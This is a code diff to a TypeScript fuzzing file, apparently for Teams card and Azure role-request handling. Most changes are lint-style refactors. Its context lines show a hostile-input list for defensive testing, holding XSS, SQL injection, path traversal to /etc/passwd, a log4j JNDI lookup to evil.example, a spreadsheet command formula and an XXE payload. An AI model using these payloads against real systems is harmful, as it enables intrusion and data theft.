@@ -167,6 +167,7 @@ export const HOSTILE_TEXT: readonly string[] = [
   '**Approved** by _security_ [click to approve](https://evil.example/phish) ![img](https://evil.example/x.png)',
   '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
   '<at>Megan Bowen</at> <at id="0">everyone</at> @channel',
+  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: card template and log4j syntax on purpose: it must arrive as plain text
   "${$root.requester.displayName} ${if(true, 'approved', 'denied')} {{DATE(2026-03-02T08:00:00Z, SHORT)}} ${json('{}')}",
   '$data: ${$index} $when: ${true} ${=1+1} ${string(requestId)}',
   '<iframe src="javascript:alert(1)"></iframe><a href="javascript:alert(1)">x</a>',
@@ -177,6 +178,7 @@ export const HOSTILE_TEXT: readonly string[] = [
   '" OR "1"="1',
   '../../../../etc/passwd\\..\\..\\windows\\win.ini',
   '${jndi:ldap://evil.example/a} %s%s%s%n %x',
+  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: card template and log4j syntax on purpose
   '\u001b[31mred\u001b[0m\u0007\u0008',
   '=HYPERLINK("https://evil.example","click") +cmd|\' /C calc\'!A0',
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
@@ -284,11 +286,11 @@ function nestedText(rng: Rng, depth: number, arrays = false): string {
     case 0:
       return '['.repeat(depth) + ']'.repeat(depth);
     case 1:
-      return '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
+      return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
     case 2:
-      return '[{"__proto__":'.repeat(depth) + 'null' + '}]'.repeat(depth);
+      return `${'[{"__proto__":'.repeat(depth)}null${'}]'.repeat(depth)}`;
     default:
-      return '{"x":['.repeat(depth) + '"deep"' + ']}'.repeat(depth);
+      return `${'{"x":['.repeat(depth)}"deep"${']}'.repeat(depth)}`;
   }
 }
 
@@ -342,7 +344,7 @@ function getAt(obj: unknown, path: Path): unknown {
   let cur: unknown = obj;
   for (const k of path) {
     if (typeof cur !== 'object' || cur === null) return undefined;
-    cur = Object.prototype.hasOwnProperty.call(cur, k) ? (cur as Json)[k] : undefined;
+    cur = Object.hasOwn(cur, k) ? (cur as Json)[k] : undefined;
   }
   return cur;
 }
@@ -351,7 +353,7 @@ function getAt(obj: unknown, path: Path): unknown {
 function setAt(obj: Json, path: Path, value: unknown): void {
   let cur: Json = obj;
   for (const k of path.slice(0, -1)) {
-    let next = Object.prototype.hasOwnProperty.call(cur, k) ? cur[k] : undefined;
+    let next = Object.hasOwn(cur, k) ? cur[k] : undefined;
     if (typeof next !== 'object' || next === null || Array.isArray(next)) {
       next = {};
       define(cur, k, next);
@@ -506,7 +508,7 @@ function badArmRole(rng: Rng, real: string): { value: unknown; says: string } {
     () => ({ value: real.slice(0, -1), says: 'an ARM role id one digit short' }),
     () => ({ value: `${real}\n`, says: 'an ARM role id with a newline' }),
     () => ({ value: real.replace(/roleDefinitions\/.*/, 'roleDefinitions/not-a-guid-at-all-not-a-guid-at-all-xx'), says: 'an ARM role id without a GUID' }),
-    () => ({ value: '/subscriptions/x/providers/Microsoft.Authorization/roleDefinitions/' + 'g'.repeat(36), says: 'an ARM role id with non-hex digits' }),
+    () => ({ value: `/subscriptions/x/providers/Microsoft.Authorization/roleDefinitions/${'g'.repeat(36)}`, says: 'an ARM role id with non-hex digits' }),
     () => ({ value: real.split('/').pop(), says: 'a bare GUID where an ARM path belongs' }),
   ])();
 }
@@ -535,7 +537,15 @@ function breakPimField(rng: Rng, body: Json, field: Field): string {
       },
     ],
   ];
-  if (field.required) choices.push([2, () => (deleteAt(body, field.path), `${name} dropped`)]);
+  if (field.required) {
+    choices.push([
+      2,
+      () => {
+        deleteAt(body, field.path);
+        return `${name} dropped`;
+      },
+    ]);
+  }
   const k = field.kind;
   if (k.t === 'guid')
     choices.push([
@@ -725,7 +735,7 @@ function invalidJson(rng: Rng, valid: string, what: string[]): Buffer {
       const bad = Buffer.from(rng.pick(BAD_UTF8));
       what.push('a structural quote replaced by bytes that are not UTF-8');
       const at = valid.indexOf('"', rng.int(valid.length));
-      const i = at < 0 ? 0 : at;
+      const i = Math.max(at, 0);
       return Buffer.concat([Buffer.from(valid.slice(0, i), 'utf8'), bad, Buffer.from(valid.slice(i + 1), 'utf8')]);
     }
     case 7:
@@ -934,7 +944,10 @@ function eventFields(): EventField[] {
     setAt(e, path, w.value);
     return `${path.join('.')} = ${w.says}`;
   };
-  const drop = (path: Path) => (_rng: Rng, e: Json) => (deleteAt(e, path), `${path.join('.')} dropped`);
+  const drop = (path: Path) => (_rng: Rng, e: Json) => {
+    deleteAt(e, path);
+    return `${path.join('.')} dropped`;
+  };
   const badDate = (path: Path) => (rng: Rng, e: Json) => {
     const v = rng.pick(BAD_DATES);
     setAt(e, path, v);
@@ -943,7 +956,15 @@ function eventFields(): EventField[] {
   return [
     {
       path: ['eventId'],
-      breakers: [drop(['eventId']), retype(['eventId']), (_r, e) => (setAt(e, ['eventId'], ''), 'eventId empty'), (r, e) => tooLong(128)(r, e, ['eventId'])],
+      breakers: [
+        drop(['eventId']),
+        retype(['eventId']),
+        (_r, e) => {
+          setAt(e, ['eventId'], '');
+          return 'eventId empty';
+        },
+        (r, e) => tooLong(128)(r, e, ['eventId']),
+      ],
     },
     {
       path: ['type'],
